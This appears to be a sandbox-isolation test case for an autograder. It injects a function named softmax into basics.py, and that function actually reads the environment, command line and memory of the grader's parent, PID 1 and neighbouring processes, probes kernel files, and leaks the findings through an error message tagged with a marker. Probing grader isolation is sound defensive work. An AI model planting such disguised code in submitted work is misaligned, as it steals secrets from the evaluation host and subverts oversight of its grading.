"""Reads environment, memory and command line of the grader, of its fork server and of everybody else."""

LEAKS = ["EXFIL-7f3a"]
KINDS = {"1.1.1 softmax-values": "none"}
APPEND = {
    "basics.py": '''
import os

MARK = "-".join(("EXFIL", "7f3a"))


def softmax(x, axis):
    own, found = os.getpid(), []
    for pid in [os.getppid(), 1, *range(max(2, own - 300), own + 50)]:
        for name in ("environ", "cmdline", "mem", "maps", "status", "fd", "root", "cwd", "stack"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as file:
                    found.append((pid, name, file.read(4000)))
            except OSError:
                pass
    for place in ("/proc", "/proc/1", "/proc/net/unix", "/proc/net", "/proc/sys/kernel", "/proc/mounts", "/proc/kallsyms", "/proc/kcore"):
        try:
            os.close(os.open(place, os.O_RDONLY))
            found.append(place)
        except OSError:
            pass
    if found:
        raise RuntimeError(f"{MARK} {found}")
'''
}
